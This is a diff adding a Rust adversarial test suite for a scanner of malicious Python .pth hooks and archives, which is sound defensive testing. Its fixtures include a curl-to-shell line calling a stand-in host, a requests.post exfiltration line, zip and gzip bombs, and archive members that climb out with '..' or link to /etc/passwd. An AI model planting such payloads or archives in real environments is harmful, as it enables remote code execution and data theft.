@@ -1,0 +1,914 @@
+//! The adversarial suite: hostile inputs, each with the outcome a user relies on — a finding,
+//! or a problem naming the path and the reason — while the scan goes on (a canary hook planted
+//! beside every case is still found), under a hang guard and a peak-memory bound.
+
+use std::ffi::{CString, OsStr};
+use std::io::Write;
+use std::os::unix::ffi::OsStrExt;
+use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use crate::util::*;
+
+/// Peak resident memory a scan may reach, whatever the input.
+const MAX_RSS_KB: i64 = 150 * 1024;
+/// A scan still running after this has hung: a guard, not a speed target (those are in
+/// `benches/`).
+const HANG_GUARD: Duration = Duration::from_secs(240);
+
+const SP: &str = "venv/lib/python3.12/site-packages";
+const EXEC_LINE: &[u8] = b"import os; os.system('curl -s http://x.invalid | sh')\n";
+
+/// What a case must produce.
+#[derive(Debug, Clone, Copy)]
+enum Outcome {
+    /// A finding of this rule on a path ending so.
+    Finding(&'static str, &'static str),
+    /// The same, on this line.
+    FindingAt(&'static str, &'static str, u64),
+    /// A problem (diagnostic) whose path ends so and whose message contains this.
+    Problem(&'static str, &'static str),
+    /// No finding and no problem beyond the canary.
+    Nothing,
+}
+use Outcome::*;
+
+struct Case {
+    name: &'static str,
+    /// Builds the hostile input under the directory, with `venv/` ready at [`SP`]; returns a
+    /// thread to stop and join once the scan is over (for files that change under the scan).
+    build: fn(&Path) -> Option<Churn>,
+    args: &'static [&'static str],
+    expect: &'static [Outcome],
+    /// Run as an unprivileged user (permission cases; root reads everything).
+    unprivileged: bool,
+}
+
+struct Churn {
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+    thread: std::thread::JoinHandle<usize>,
+}
+
+struct Run {
+    json: serde_json::Value,
+    code: i32,
+    stderr: String,
+    max_rss_kb: i64,
+}
+
+fn sp(dir: &Path) -> PathBuf {
+    dir.join(SP)
+}
+
+/// Runs the binary with the report written to a file (no pipe to fill), under GNU time for
+/// its peak memory, killing it past the hang guard. (The peak is read by `time`, a small
+/// process that forks pthscan: a child forked from this test process would start with the
+/// test's own high-water mark.)
+fn run_bounded(args: &[String], unprivileged: bool) -> Run {
+    use std::os::unix::process::CommandExt;
+    let out = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(out.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
+    let report = out.path().join("report.json");
+    let errors = out.path().join("stderr");
+    let peak = out.path().join("peak");
+    let mut cmd = Command::new("/usr/bin/time");
+    cmd.args(["-f", "%M", "-o"])
+        .arg(&peak)
+        .arg(env!("CARGO_BIN_EXE_pthscan"))
+        .args(args)
+        .args(["--format", "json", "--output"])
+        .arg(&report)
+        .env("NO_COLOR", "1")
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(std::fs::File::create(&errors).unwrap())
+        .process_group(0);
+    if unprivileged && is_root() {
+        cmd.uid(65534).gid(65534);
+    }
+    let mut child = cmd
+        .spawn()
+        .expect("run pthscan under /usr/bin/time (GNU time)");
+    let started = Instant::now();
+    let status = loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            break status;
+        }
+        if started.elapsed() > HANG_GUARD {
+            let group = format!("-{}", child.id());
+            let _ = Command::new("kill").args(["-KILL", "--", &group]).status();
+            panic!("pthscan {args:?} still running after {HANG_GUARD:?}: hung");
+        }
+        std::thread::sleep(Duration::from_millis(10));
+    };
+    let stderr = std::fs::read_to_string(&errors).unwrap_or_default();
+    let code = status.code().unwrap_or(-1);
+    assert!(
+        (0..=2).contains(&code),
+        "pthscan {args:?} died (exit {code}): {stderr}"
+    );
+    let text = std::fs::read(&report)
+        .unwrap_or_else(|e| panic!("no report from {args:?} ({e}): {stderr}"));
+    let peak = std::fs::read_to_string(&peak).unwrap();
+    Run {
+        json: serde_json::from_slice(&text).expect("a JSON report"),
+        code,
+        stderr,
+        max_rss_kb: peak.trim().lines().last().unwrap().parse().unwrap(),
+    }
+}
+
+#[expect(unsafe_code, reason = "geteuid has no safe wrapper in std")]
+fn is_root() -> bool {
+    // SAFETY: no arguments, cannot fail
+    unsafe { libc::geteuid() == 0 }
+}
+
+/// Makes `depth` nested directories named `name` under `dir` with `mkdirat`/`openat`, since
+/// their path outgrows PATH_MAX; calls `at_bottom` with a descriptor of the deepest one.
+#[expect(unsafe_code, reason = "mkdirat/openat: paths longer than PATH_MAX")]
+fn nest(dir: &Path, name: &str, depth: usize, at_bottom: impl FnOnce(libc::c_int)) {
+    let cname = CString::new(name).unwrap();
+    let top = CString::new(dir.as_os_str().as_bytes()).unwrap();
+    // SAFETY: valid C strings; every descriptor is closed below
+    unsafe {
+        let mut fd = libc::open(top.as_ptr(), libc::O_DIRECTORY | libc::O_RDONLY);
+        assert!(fd >= 0);
+        for _ in 0..depth {
+            assert_eq!(libc::mkdirat(fd, cname.as_ptr(), 0o755), 0, "mkdirat");
+            let next = libc::openat(fd, cname.as_ptr(), libc::O_DIRECTORY | libc::O_RDONLY);
+            assert!(next >= 0, "openat");
+            libc::close(fd);
+            fd = next;
+        }
+        at_bottom(fd);
+        libc::close(fd);
+    }
+}
+
+/// Writes a venv with an executable hook below the directory `fd` (relative names).
+#[expect(
+    unsafe_code,
+    reason = "openat/write: below a path longer than PATH_MAX"
+)]
+fn venv_at(fd: libc::c_int) {
+    let mut dir = fd;
+    for part in ["venv", "lib", "python3.12", "site-packages"] {
+        let c = CString::new(part).unwrap();
+        // SAFETY: valid C strings and descriptors
+        unsafe {
+            assert_eq!(libc::mkdirat(dir, c.as_ptr(), 0o755), 0);
+            let next = libc::openat(dir, c.as_ptr(), libc::O_DIRECTORY | libc::O_RDONLY);
+            assert!(next >= 0);
+            if part == "venv" {
+                write_at(next, "pyvenv.cfg", b"version = 3.12.4\n");
+            }
+            if dir != fd {
+                libc::close(dir);
+            }
+            dir = next;
+        }
+    }
+    write_at(dir, "deep.pth", EXEC_LINE);
+    // SAFETY: our descriptor
+    unsafe { libc::close(dir) };
+}
+
+#[expect(unsafe_code, reason = "openat/write relative to a descriptor")]
+fn write_at(dir: libc::c_int, name: &str, data: &[u8]) {
+    let c = CString::new(name).unwrap();
+    // SAFETY: valid C string, descriptor and buffer
+    unsafe {
+        let fd = libc::openat(
+            dir,
+            c.as_ptr(),
+            libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC,
+            0o644,
+        );
+        assert!(fd >= 0);
+        assert_eq!(
+            libc::write(fd, data.as_ptr().cast(), data.len()),
+            data.len() as isize
+        );
+        libc::close(fd);
+    }
+}
+
+#[expect(unsafe_code, reason = "mknod has no safe wrapper in std")]
+fn mknod_char(path: &Path) -> bool {
+    let c = CString::new(path.as_os_str().as_bytes()).unwrap();
+    // SAFETY: valid C string; /dev/null's numbers
+    unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o644, libc::makedev(1, 3)) == 0 }
+}
+
+fn mkfifo(path: &Path) {
+    assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
+}
+
+fn write(path: &Path, data: &[u8]) {
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(path, data).unwrap();
+}
+
+/// A zip of `n` stored members, written straight to disk (the zip crate's writer would hold a
+/// million entries in memory).
+fn many_member_zip(path: &Path, n: usize) {
+    let mut out = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
+    let mut central = Vec::new();
+    let mut offset = 0u32;
+    for i in 0..n {
+        let name = format!("m/{i}.py");
+        let local = [
+            &b"PK\x03\x04"[..],
+            &[20, 0, 0, 0, 0, 0, 0, 0, 0, 0],
+            &0u32.to_le_bytes(), // crc of nothing
+            &0u32.to_le_bytes(),
+            &0u32.to_le_bytes(),
+            &(name.len() as u16).to_le_bytes(),
+            &0u16.to_le_bytes(),
+            name.as_bytes(),
+        ]
+        .concat();
+        out.write_all(&local).unwrap();
+        central.extend_from_slice(b"PK\x01\x02");
+        central.extend_from_slice(&[20, 3, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
+        central.extend_from_slice(&[0u8; 12]); // crc, sizes
+        central.extend_from_slice(&(name.len() as u16).to_le_bytes());
+        central.extend_from_slice(&[0u8; 8]); // extra, comment, disk, internal attrs
+        central.extend_from_slice(&0u32.to_le_bytes()); // external attrs
+        central.extend_from_slice(&offset.to_le_bytes());
+        central.extend_from_slice(name.as_bytes());
+        offset += local.len() as u32;
+    }
+    out.write_all(&central).unwrap();
+    // zip64 end records: more than 65,535 entries
+    let zip64_at = u64::from(offset) + central.len() as u64;
+    out.write_all(b"PK\x06\x06").unwrap();
+    out.write_all(&44u64.to_le_bytes()).unwrap();
+    out.write_all(&[45, 3, 45, 0]).unwrap();
+    out.write_all(&[0u8; 8]).unwrap(); // disk numbers
+    out.write_all(&(n as u64).to_le_bytes()).unwrap();
+    out.write_all(&(n as u64).to_le_bytes()).unwrap();
+    out.write_all(&(central.len() as u64).to_le_bytes())
+        .unwrap();
+    out.write_all(&u64::from(offset).to_le_bytes()).unwrap();
+    out.write_all(b"PK\x06\x07").unwrap();
+    out.write_all(&0u32.to_le_bytes()).unwrap();
+    out.write_all(&zip64_at.to_le_bytes()).unwrap();
+    out.write_all(&1u32.to_le_bytes()).unwrap();
+    out.write_all(b"PK\x05\x06").unwrap();
+    out.write_all(&[0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff])
+        .unwrap();
+    out.write_all(&[0xff; 8]).unwrap();
+    out.write_all(&[0, 0]).unwrap();
+    out.flush().unwrap();
+}
+
+/// A deflated member of `size` zero bytes: about 1,000 to 1.
+fn zeros_zip(name: &str, size: usize) -> Vec<u8> {
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    w.start_file(name, zip::write::SimpleFileOptions::default())
+        .unwrap();
+    let chunk = vec![0u8; 1 << 20];
+    for _ in 0..size >> 20 {
+        w.write_all(&chunk).unwrap();
+    }
+    w.finish().unwrap().into_inner()
+}
+
+fn gzip(data: &[u8]) -> Vec<u8> {
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    gz.write_all(data).unwrap();
+    gz.finish().unwrap()
+}
+
+fn tar_of(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut b = tar::Builder::new(Vec::new());
+    for (name, data) in members {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        b.append_data(&mut h, name, *data).unwrap();
+    }
+    b.into_inner().unwrap()
+}
+
+fn churn(dir: &Path, step: fn(&Path, usize)) -> Option<Churn> {
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let flag = std::sync::Arc::clone(&stop);
+    let dir = dir.to_path_buf();
+    let thread = std::thread::spawn(move || {
+        let mut i = 0;
+        while !flag.load(std::sync::atomic::Ordering::Relaxed) {
+            step(&dir, i);
+            i += 1;
+        }
+        i
+    });
+    Some(Churn { stop, thread })
+}
+
+const CASES: &[Case] = &[
+    Case {
+        name: "zip bomb: a wheel whose member inflates 1000 to 1",
+        build: |d| {
+            write(
+                &d.join("w/bomb-1.0-py3-none-any.whl"),
+                &zeros_zip("bomb/data.py", 2048 << 20),
+            );
+            None
+        },
+        args: &[],
+        expect: &[Problem("bomb-1.0-py3-none-any.whl › bomb/data.py", "bomb")],
+        unprivileged: false,
+    },
+    Case {
+        name: "nested bomb: zips of bombs inside a zip",
+        build: |d| {
+            let inner = zeros_zip("x.py", 512 << 20);
+            let middle: Vec<(String, Vec<u8>)> = (0..8)
+                .map(|i| (format!("b{i}.zip"), inner.clone()))
+                .collect();
+            let refs: Vec<(&str, &[u8])> = middle
+                .iter()
+                .map(|(n, b)| (n.as_str(), b.as_slice()))
+                .collect();
+            let mid = zip_of(&refs);
+            write(
+                &d.join("w/nested.zip"),
+                &zip_of(&[("a.zip", &mid), ("b.zip", &mid)]),
+            );
+            None
+        },
+        args: &[],
+        expect: &[Problem("nested.zip › a.zip › b0.zip › x.py", "bomb")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a million-member zip",
+        build: |d| {
+            std::fs::create_dir_all(d.join("w")).unwrap();
+            many_member_zip(&d.join("w/many.zip"), 1_000_000);
+            None
+        },
+        args: &[],
+        expect: &[Problem(
+            "many.zip",
+            "declares 1000000 members, more than the limit",
+        )],
+        unprivileged: false,
+    },
+    Case {
+        name: "a 100,000-file site-packages with one evil hook",
+        build: |d| {
+            let pkg = sp(d).join("big");
+            std::fs::create_dir_all(&pkg).unwrap();
+            for i in 0..100_000 {
+                std::fs::write(pkg.join(format!("m{i}.py")), b"x = 1\n").unwrap();
+            }
+            write(&sp(d).join("evil.pth"), EXEC_LINE);
+            None
+        },
+        args: &["--deep"],
+        expect: &[Finding("PTH001", "site-packages/evil.pth")],
+        unprivileged: false,
+    },
+    Case {
+        name: "10,000 levels of directories",
+        build: |d| {
+            nest(d, "d", 10_000, |_| {});
+            None
+        },
+        args: &[],
+        expect: &[Problem("/d/d/d", "file name too long")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a venv under a path of about 4 KB (255-byte names)",
+        build: |d| {
+            // 15 × 256 bytes: under PATH_MAX, still found
+            nest(d, &"n".repeat(255), 15, venv_at);
+            None
+        },
+        args: &[],
+        expect: &[Finding("PTH001", "site-packages/deep.pth")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a venv under a path longer than PATH_MAX",
+        build: |d| {
+            nest(d, &"n".repeat(255), 17, venv_at);
+            None
+        },
+        args: &[],
+        expect: &[Problem("nnnnnnnnnn", "file name too long")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a 255-byte hook name",
+        build: |d| {
+            write(&sp(d).join(format!("{}.pth", "h".repeat(251))), EXEC_LINE);
+            None
+        },
+        args: &[],
+        expect: &[Finding("PTH001", "hhhhhhhh.pth")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a hook whose name is not UTF-8",
+        build: |d| {
+            write(
+                &sp(d).join(OsStr::from_bytes(b"\xff\xfe\x80.pth")),
+                EXEC_LINE,
+            );
+            None
+        },
+        args: &[],
+        expect: &[Finding("PTH001", "/\\xff\\xfe\\x80.pth")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a venv in a directory whose name is not UTF-8",
+        build: |d| {
+            let root = d.join(OsStr::from_bytes(b"proj\xc3\x28"));
+            write(&root.join("venv/pyvenv.cfg"), b"version = 3.12.4\n");
+            write(&root.join(SP).join("x.pth"), EXEC_LINE);
+            None
+        },
+        args: &[],
+        expect: &[Finding("PTH001", "site-packages/x.pth")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a symlink loop named as a hook",
+        build: |d| {
+            symlink("b.pth", sp(d).join("a.pth")).unwrap();
+            symlink("a.pth", sp(d).join("b.pth")).unwrap();
+            None
+        },
+        args: &[],
+        expect: &[
+            Problem("a.pth", "symlink loop"),
+            Problem("b.pth", "symlink loop"),
+        ],
+        unprivileged: false,
+    },
+    Case {
+        name: "a directory symlink loop inside site-packages (--deep)",
+        build: |d| {
+            symlink("..", sp(d).join("up")).unwrap();
+            symlink(".", sp(d).join("here")).unwrap();
+            write(&sp(d).join("pkg/__init__.py"), b"import os\n");
+            None
+        },
+        args: &["--deep"],
+        expect: &[Nothing],
+        unprivileged: false,
+    },
+    Case {
+        name: "a hook linking out of the scanned tree",
+        build: |d| {
+            symlink("/etc/passwd", sp(d).join("out.pth")).unwrap();
+            None
+        },
+        args: &[],
+        expect: &[Problem("out.pth", "leads outside the scanned root")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a FIFO named as a hook",
+        build: |d| {
+            mkfifo(&sp(d).join("fifo.pth"));
+            None
+        },
+        args: &[],
+        expect: &[Problem("fifo.pth", "not a regular file (FIFO)")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a FIFO named sitecustomize.py",
+        build: |d| {
+            mkfifo(&sp(d).join("sitecustomize.py"));
+            None
+        },
+        args: &[],
+        expect: &[Problem("sitecustomize.py", "not a regular file (FIFO)")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a FIFO among the files of a --deep scan",
+        build: |d| {
+            mkfifo(&sp(d).join("pipe.py"));
+            None
+        },
+        args: &["--deep"],
+        expect: &[Problem("pipe.py", "not a regular file (FIFO)")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a socket named as a hook",
+        build: |d| {
+            let l = std::os::unix::net::UnixListener::bind(sp(d).join("sock.pth")).unwrap();
+            std::mem::forget(l);
+            None
+        },
+        args: &[],
+        expect: &[Problem("sock.pth", "not a regular file (socket)")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a device node named as a hook (or a FIFO where mknod is not allowed)",
+        build: |d| {
+            if !mknod_char(&sp(d).join("dev.pth")) {
+                mkfifo(&sp(d).join("dev.pth"));
+            }
+            None
+        },
+        args: &[],
+        expect: &[Problem("dev.pth", "not a regular file")],
+        unprivileged: false,
+    },
+    Case {
+        name: "an unreadable hook",
+        build: |d| {
+            write(&sp(d).join("locked.pth"), EXEC_LINE);
+            std::fs::set_permissions(
+                sp(d).join("locked.pth"),
+                std::fs::Permissions::from_mode(0o000),
+            )
+            .unwrap();
+            None
+        },
+        args: &[],
+        expect: &[Problem("locked.pth", "permission denied")],
+        unprivileged: true,
+    },
+    Case {
+        name: "an unreadable site-packages",
+        build: |d| {
+            write(&sp(d).join("x.pth"), EXEC_LINE);
+            std::fs::set_permissions(sp(d), std::fs::Permissions::from_mode(0o000)).unwrap();
+            None
+        },
+        args: &[],
+        expect: &[Problem("site-packages", "permission denied")],
+        unprivileged: true,
+    },
+    Case {
+        name: "an unreadable package directory (--deep)",
+        build: |d| {
+            write(&sp(d).join("pkg/__init__.py"), b"x = 1\n");
+            std::fs::set_permissions(sp(d).join("pkg"), std::fs::Permissions::from_mode(0o000))
+                .unwrap();
+            None
+        },
+        args: &["--deep"],
+        expect: &[Problem("site-packages/pkg", "permission denied")],
+        unprivileged: true,
+    },
+    Case {
+        name: "a 50 GB sparse hook",
+        build: |d| {
+            let f = std::fs::File::create(sp(d).join("sparse.pth")).unwrap();
+            f.set_len(50 << 30).unwrap();
+            None
+        },
+        args: &[],
+        expect: &[Problem("sparse.pth", "larger than the")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a 50 GB sparse extension module (--deep)",
+        build: |d| {
+            let f = std::fs::File::create(sp(d).join("huge.so")).unwrap();
+            f.set_len(50 << 30).unwrap();
+            None
+        },
+        args: &["--deep"],
+        expect: &[Problem("huge.so", "judged its first")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a 100 MB single-line hook",
+        build: |d| {
+            let mut line = b"import os; os.system('id') #".to_vec();
+            line.resize(100 << 20, b'A');
+            write(&sp(d).join("long.pth"), &line);
+            None
+        },
+        args: &[],
+        expect: &[
+            Finding("PTH001", "long.pth"),
+            Problem("long.pth", "larger than the"),
+        ],
+        unprivileged: false,
+    },
+    Case {
+        name: "a 100 MB module read whole (--deep, raised cap): payload near its end",
+        build: |d| {
+            // 2,100,000 lines of 50 bytes (100 MiB), then the payload on line 2,100,001
+            let line = format!("{:<49}\n", "value = compute(value) + 1  # padding");
+            let mut text = line.repeat(2_100_000).into_bytes();
+            text.extend_from_slice(b"requests.post('https://models.litellm.cloud/', data=blob)\n");
+            write(&sp(d).join("pkg/big.py"), &text);
+            None
+        },
+        args: &["--deep", "--max-file-size", "209715200"],
+        expect: &[FindingAt(
+            "ioc-net-models-litellm-cloud",
+            "pkg/big.py",
+            2_100_001,
+        )],
+        unprivileged: false,
+    },
+    Case {
+        name: "a UTF-16 hook (CPython cannot run it: NUL bytes)",
+        build: |d| {
+            let mut data = vec![0xff, 0xfe];
+            for c in "import os; os.system('id')\n".encode_utf16() {
+                data.extend_from_slice(&c.to_le_bytes());
+            }
+            write(&sp(d).join("wide.pth"), &data);
+            None
+        },
+        args: &[],
+        expect: &[FindingAt("PTH004", "wide.pth", 1)],
+        unprivileged: false,
+    },
+    Case {
+        name: "a UTF-16 sitecustomize.py",
+        build: |d| {
+            let mut data = vec![0xff, 0xfe];
+            for c in "import os; os.system('id')\n".encode_utf16() {
+                data.extend_from_slice(&c.to_le_bytes());
+            }
+            write(&sp(d).join("sitecustomize.py"), &data);
+            None
+        },
+        args: &[],
+        expect: &[Finding("CUS001", "sitecustomize.py")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a hook of invalid UTF-8 (runs on 3.13+ only)",
+        build: |d| {
+            write(
+                &sp(d).join("latin.pth"),
+                b"caf\xe9\nimport os; os.system('id')\n",
+            );
+            None
+        },
+        args: &[],
+        expect: &[Finding("PTH001", "latin.pth")],
+        unprivileged: false,
+    },
+    Case {
+        name: "hooks vanishing and reappearing during the scan",
+        build: |d| {
+            for i in 0..200 {
+                write(&sp(d).join(format!("c{i}.pth")), EXEC_LINE);
+            }
+            churn(&sp(d), |dir, i| {
+                let p = dir.join(format!("c{}.pth", i % 200));
+                if i % 2 == 0 {
+                    let _ = std::fs::remove_file(&p);
+                } else {
+                    let _ = std::fs::write(&p, EXEC_LINE);
+                }
+            })
+        },
+        args: &[],
+        expect: &[],
+        unprivileged: false,
+    },
+    Case {
+        name: "a module growing and shrinking during a --deep scan",
+        build: |d| {
+            write(&sp(d).join("pkg/grow.py"), b"x = 1\n");
+            churn(&sp(d), |dir, i| {
+                let p = dir.join("pkg/grow.py");
+                let size = (i % 64) << 16;
+                let _ = std::fs::write(&p, vec![b'#'; size]);
+            })
+        },
+        args: &["--deep"],
+        expect: &[],
+        unprivileged: false,
+    },
+    Case {
+        name: "a truncated wheel",
+        build: |d| {
+            let mut whl = zip_of(&[("x/__init__.py", b"x = 1\n"), ("x.pth", EXEC_LINE)]);
+            whl.truncate(whl.len() - 30);
+            write(&d.join("w/cut-1.0-py3-none-any.whl"), &whl);
+            None
+        },
+        args: &[],
+        expect: &[Problem("cut-1.0-py3-none-any.whl", "")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a wheel member climbing out with ..",
+        build: |d| {
+            let whl = zip_of(&[("../../evil.pth", EXEC_LINE)]);
+            write(&d.join("w/up-1.0-py3-none-any.whl"), &whl);
+            None
+        },
+        args: &[],
+        expect: &[Finding(
+            "ARC001",
+            "up-1.0-py3-none-any.whl › ../../evil.pth",
+        )],
+        unprivileged: false,
+    },
+    Case {
+        name: "an sdist whose symlink member points out",
+        build: |d| {
+            let mut b = tar::Builder::new(Vec::new());
+            let mut h = tar::Header::new_gnu();
+            h.set_entry_type(tar::EntryType::Symlink);
+            h.set_size(0);
+            b.append_link(&mut h, "pkg-1.0/setup.py", "/etc/passwd")
+                .unwrap();
+            write(&d.join("w/pkg-1.0.tar.gz"), &gzip(&b.into_inner().unwrap()));
+            None
+        },
+        args: &[],
+        expect: &[Finding("ARC001", "pkg-1.0.tar.gz › pkg-1.0/setup.py")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a gzip bomb sdist",
+        build: |d| {
+            let zeros = vec![0u8; 1 << 30];
+            let plain = tar_of(&[("pkg-1.0/setup.py", &zeros)]);
+            write(&d.join("w/pkg-1.0.tar.gz"), &gzip(&plain));
+            None
+        },
+        args: &[],
+        expect: &[Problem("pkg-1.0.tar.gz", "bomb")],
+        unprivileged: false,
+    },
+    Case {
+        name: "archives nested ten deep",
+        build: |d| {
+            let mut inner = zip_of(&[("x.pth", EXEC_LINE)]);
+            for i in 0..10 {
+                inner = zip_of(&[(&format!("l{i}.zip"), &inner)]);
+            }
+            write(&d.join("w/deep.zip"), &inner);
+            None
+        },
+        args: &[],
+        expect: &[Problem("l8.zip", "deeper than the depth limit")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a directory named as a hook",
+        build: |d| {
+            std::fs::create_dir_all(sp(d).join("dir.pth")).unwrap();
+            None
+        },
+        args: &[],
+        expect: &[Problem("dir.pth", "not a regular file (directory)")],
+        unprivileged: false,
+    },
+    Case {
+        name: "a RECORD of a million rows",
+        build: |d| {
+            let info = sp(d).join("huge-1.0.dist-info");
+            let mut record = String::new();
+            for i in 0..1_000_000 {
+                record.push_str(&format!("huge/m{i}.py,sha256=AAAA,10\n"));
+            }
+            write(&info.join("RECORD"), record.as_bytes());
+            write(
+                &info.join("METADATA"),
+                b"Metadata-Version: 2.1\nName: huge\nVersion: 1.0\n\n",
+            );
+            None
+        },
+        args: &[],
+        expect: &[Problem(
+            "huge-1.0.dist-info/RECORD",
+            "its files were not checked",
+        )],
+        unprivileged: false,
+    },
+];
+
+fn finding_matches(f: &serde_json::Value, rule: &str, path: &str) -> bool {
+    f["rule"] == rule
+        && f["location"]["path"]
+            .as_str()
+            .is_some_and(|p| p.ends_with(path))
+}
+
+fn check(case: &Case) {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+    let root = dir.path().join("case");
+    write(&root.join("venv/pyvenv.cfg"), b"version = 3.12.4\n");
+    std::fs::create_dir_all(sp(&root)).unwrap();
+    // the canary: found whatever the hostile input does to the scan
+    let canary = dir.path().join("canary");
+    write(&canary.join("venv/pyvenv.cfg"), b"version = 3.12.4\n");
+    write(&canary.join(SP).join("canary.pth"), EXEC_LINE);
+    let churning = (case.build)(&root);
+    let mut args: Vec<String> = vec![
+        root.to_string_lossy().into_owned(),
+        canary.to_string_lossy().into_owned(),
+    ];
+    args.extend(case.args.iter().map(|a| a.to_string()));
+    let run = run_bounded(&args, case.unprivileged);
+    if let Some(c) = churning {
+        c.stop.store(true, std::sync::atomic::Ordering::Relaxed);
+        assert!(
+            c.thread.join().unwrap() > 0,
+            "{}: nothing changed",
+            case.name
+        );
+    }
+    // restore permissions so the temporary directory can be removed
+    for e in walkdir::WalkDir::new(dir.path()).into_iter().flatten() {
+        if e.file_type().is_dir() || e.file_type().is_file() {
+            let _ = std::fs::set_permissions(e.path(), std::fs::Permissions::from_mode(0o755));
+        }
+    }
+    let name = case.name;
+    let findings = run.json["findings"].as_array().unwrap();
+    let diagnostics = run.json["diagnostics"].as_array().unwrap();
+    let report = || format!("{name}: exit {}, stderr:\n{}", run.code, run.stderr);
+    assert!(
+        findings
+            .iter()
+            .any(|f| finding_matches(f, "PTH001", "canary.pth")),
+        "{}: the scan did not go on to the canary",
+        report()
+    );
+    assert!(
+        run.max_rss_kb <= MAX_RSS_KB,
+        "{name}: peak RSS {} KB over {MAX_RSS_KB} KB",
+        run.max_rss_kb
+    );
+    assert!(!run.stderr.contains("panicked"), "{}", report());
+    let in_case = |p: &serde_json::Value| {
+        p["location"]["path"]
+            .as_str()
+            .or(p["path"].as_str())
+            .is_some_and(|p| !p.contains("/canary/"))
+    };
+    for e in case.expect {
+        match *e {
+            Finding(rule, path) => assert!(
+                findings.iter().any(|f| finding_matches(f, rule, path)),
+                "{}: no {rule} on …{path}: {findings:#?}",
+                report()
+            ),
+            FindingAt(rule, path, line) => assert!(
+                findings
+                    .iter()
+                    .any(|f| finding_matches(f, rule, path) && f["location"]["line"] == line),
+                "{}: no {rule} on …{path}:{line}: {findings:#?}",
+                report()
+            ),
+            Problem(path, text) => {
+                assert!(
+                    diagnostics
+                        .iter()
+                        .any(|d| d["path"].as_str().is_some_and(|p| p.contains(path))
+                            && d["message"].as_str().unwrap().contains(text)),
+                    "{}: no problem `{text}` on …{path}: {diagnostics:#?}",
+                    report()
+                );
+                // named on stderr too, unless --quiet
+                assert!(run.stderr.contains(text), "{}", report());
+            }
+            Nothing => {
+                assert!(!findings.iter().any(in_case), "{}: {findings:#?}", report());
+                assert!(
+                    !diagnostics.iter().any(in_case),
+                    "{}: {diagnostics:#?}",
+                    report()
+                );
+            }
+        }
+    }
+    // exit 2 exactly when the scan could not read something it should have; 1 for findings
+    let incomplete = diagnostics.iter().any(|d| d["incomplete"] == true);
+    assert_eq!(run.code, if incomplete { 2 } else { 1 }, "{}", report());
+}
+
+#[test]
+fn hostile_inputs_each_get_their_outcome_and_the_scan_goes_on() {
+    assert!(CASES.len() >= 30, "{} cases", CASES.len());
+    let only = std::env::var("PTHSCAN_HOSTILE").ok();
+    for case in CASES {
+        if only.as_deref().is_some_and(|o| !case.name.contains(o)) {
+            continue;
+        }
+        check(case);
+    }
+}
